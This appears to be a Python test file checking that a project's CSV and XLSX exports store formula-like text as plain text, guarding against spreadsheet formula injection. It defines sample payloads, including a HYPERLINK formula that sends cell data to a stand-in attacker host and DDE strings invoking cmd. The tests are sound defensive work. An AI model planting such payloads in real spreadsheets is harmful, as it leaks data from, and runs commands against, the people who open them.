"""Every spreadsheet indicators write keeps formula-looking text as text (through
pantau.core.spreadsheet): the plan export (CSV and XLSX), the media report's XLSX and the
indicator table's XLSX, with the payloads an attacker would put in a headline, an outlet's
name or a plan's text."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from sqlmodel import Session

from indicators.api import read_plan, save_plan, write_plan
from indicators.planio import IndicatorSpec, PlanSpec, SasaranSpec
from tests.indicators.helpers import (
    add_mention,
    add_profile,
    indicator_report,
    media_report,
    wib,
)

HYPERLINK = '=HYPERLINK("http://jahat.example/curi?d="&A1,"klik")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, COMMAND, AT_SUM)


def hostile_plan(year: int) -> PlanSpec:
    return PlanSpec(kind="IKU", unit=AT_SUM, year=year, title=HYPERLINK, sasaran=[
        SasaranSpec(text=COMMAND, indicators=[
            IndicatorSpec(name=HYPERLINK, unit="%", target=90, target_text="90%",
                          formula=COMMAND, data_source=AT_SUM),
        ]),
    ])


def xlsx_cells(path: Path) -> list[Any]:
    workbook = load_workbook(path)
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def assert_text_not_formulas(path: Path) -> None:
    cells = xlsx_cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for payload in PAYLOADS:
        assert any(payload in text for text in texts), payload
    assert all(c.data_type == "s" for c in cells if c.value in PAYLOADS)


def test_plan_export_csv_writes_formulas_as_text(tmp_path: Path) -> None:
    path = write_plan(hostile_plan(2023), tmp_path / "rencana.csv", "csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    [row] = rows
    assert (row["unit_kerja"], row["judul"], row["sasaran"], row["indikator"]) == (
        "'" + AT_SUM, "'" + HYPERLINK, "'" + COMMAND, "'" + HYPERLINK)
    assert (row["cara_perhitungan"], row["sumber_data"]) == ("'" + COMMAND, "'" + AT_SUM)
    assert row["target"] == "90"  # numbers stay numbers


def test_plan_export_xlsx_writes_formulas_as_text(tmp_path: Path) -> None:
    path = write_plan(hostile_plan(2023), tmp_path / "rencana.xlsx", "xlsx")
    assert_text_not_formulas(path)
    again = read_plan(path)  # and the export imports back as written
    assert (again.unit, again.title, again.sasaran[0].text) == (AT_SUM, HYPERLINK, COMMAND)


def test_media_report_xlsx_writes_formulas_as_text(session: Session, tmp_path: Path) -> None:
    pid = add_profile(session, "instansi")
    for i, payload in enumerate(PAYLOADS):
        add_mention(session, pid, wib(2023, 6, 5, 8 + i), model="negatif", title=payload,
                    outlet=PAYLOADS[i - 1], passages=[PAYLOADS[i - 2]],
                    url=f"https://berita.contoh.id/{i}")
    session.commit()
    [path] = media_report(session, kind="daily", day=date(2023, 6, 5), formats=["xlsx"],
                          out_dir=tmp_path)
    assert_text_not_formulas(path)
    negatives = load_workbook(path)["Perlu ditanggapi"]
    assert {row[1] for row in negatives.iter_rows(min_row=2, values_only=True)} == set(PAYLOADS)


def test_indicator_report_xlsx_writes_formulas_as_text(session: Session,
                                                       tmp_path: Path) -> None:
    save_plan(session, hostile_plan(2023))
    session.commit()
    paths = indicator_report(session, year=2023, period=None, formats=["xlsx"],
                             out_dir=tmp_path)
    assert_text_not_formulas(paths[0])
